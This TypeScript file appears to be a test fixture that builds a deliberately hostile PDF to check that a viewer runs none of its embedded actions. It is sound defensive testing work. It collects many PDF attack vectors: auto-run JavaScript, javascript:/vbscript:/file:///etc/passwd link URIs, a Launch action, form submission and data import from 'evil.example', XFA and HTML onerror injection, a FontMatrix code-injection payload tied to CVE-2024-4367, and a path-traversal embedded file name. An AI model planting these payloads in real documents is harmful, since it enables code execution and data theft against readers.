/** What would be seen if a document could run anything: the books of this folder set the same. */
const SCRIPT = 'globalThis.canary = true; app.alert\\("ran"\\);';
const ELSEWHERE = 'https://evil.example';

/** Actions that the standard has and a page in a browser must not follow, each on a link of its own. */
const ACTIONS = [
  `/S /JavaScript /JS (${SCRIPT})`,
  `/S /URI /URI (javascript:globalThis.canary=true)`,
  `/S /URI /URI (JaVaScRiPt:globalThis.canary=true)`,
  `/S /URI /URI (data:text/html,<script>globalThis.canary=true</script>)`,
  `/S /URI /URI (vbscript:msgbox)`,
  `/S /URI /URI (file:///etc/passwd)`,
  `/S /Launch /F (calculator.exe)`,
  `/S /SubmitForm /F (${ELSEWHERE}/form) /Flags 4`,
  `/S /ImportData /F (${ELSEWHERE}/data.fdf)`,
  `/S /GoToR /F (${ELSEWHERE}/other.pdf) /D [0 /Fit]`,
  `/S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit]`,
  `/S /Named /N /Print`,
];
/** The one link that may stand. */
const GOOD = `/S /URI /URI (https://example.org/rules)`;
const XFA = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">globalThis.canary = true</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${ELSEWHERE}/xfa.png" onerror="globalThis.canary = true"/></body></exData></value></draw></subform></template></xdp:xdp>`;
const INNER = '<html><script>globalThis.canary = true</script></html>';
const WORDS = 'BT /F1 28 Tf 60 760 Td (Nothing of this may run) Tj ET';

/** One page that may be read, with everything around it that a document can bring along to act. */
export function makeHostileDocument(): Uint8Array {
  const firstLink = 11;
  const links = [...ACTIONS, GOOD].map(
    (action, nth) =>
      `<< /Type /Annot /Subtype /Link /Rect [60 ${700 - nth * 40} 540 ${735 - nth * 40}] /Border [0 0 1] /A << ${action} >> /AA << /PV << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
  );
  const annotations = links.map((_, nth) => `${firstLink + nth} 0 R`).join(' ');
  return assemble([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${SCRIPT}) >> /AA << /WC << /S /JavaScript /JS (${SCRIPT}) >> >> /AcroForm 6 0 R /Names << /JavaScript << /Names [(start) << /S /JavaScript /JS (${SCRIPT}) >>] >> /EmbeddedFiles << /Names [(inner.html) 9 0 R] >> >> /Outlines << /First 10 0 R /Last 10 0 R /Count 1 >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [${annotations} 7 0 R] /AA << /O << /S /JavaScript /JS (${SCRIPT}) >> >> /Resources << /Font << /F1 5 0 R >> >> >>`,
    stream('', WORDS),
    // A matrix that is text once ended up in generated code (CVE-2024-4367).
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.canary = true; //)] >>',
    `<< /Fields [7 0 R] /XFA 8 0 R /NeedAppearances true >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<img src=x onerror=globalThis.canary=true>) /Rect [60 30 540 60] /AA << /K << /S /JavaScript /JS (${SCRIPT}) >> /F << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
    stream('', XFA),
    `<< /Type /Filespec /F (../../inner.html) /UF (../../inner.html) /EF << /F ${firstLink + links.length} 0 R >> >>`,
    `<< /Title (<img src=x onerror=globalThis.canary=true>) /Parent 1 0 R /A << /S /URI /URI (javascript:globalThis.canary=true) >> >>`,
    ...links,
    stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', INNER),
  ]);
}

const stream = (entries: string, text: string): string =>
  `<< ${entries} /Length ${Buffer.byteLength(text)} >>\nstream\n${text}\nendstream`;

/** Objects 1, 2, 3, … with a cross-reference table; object 1 is the catalog. */
export function assemble(objects: readonly (Buffer | string)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')];
  const offsets: number[] = [];
  let length = parts[0]!.length; // just put in
  const add = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  objects.forEach((body, index) => {
    offsets.push(length);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]));
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const start = length;
  const count = objects.length + 1;
  add(Buffer.from(`xref\n0 ${count}\n0000000000 65535 f \n${table}`));
  add(Buffer.from(`trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}
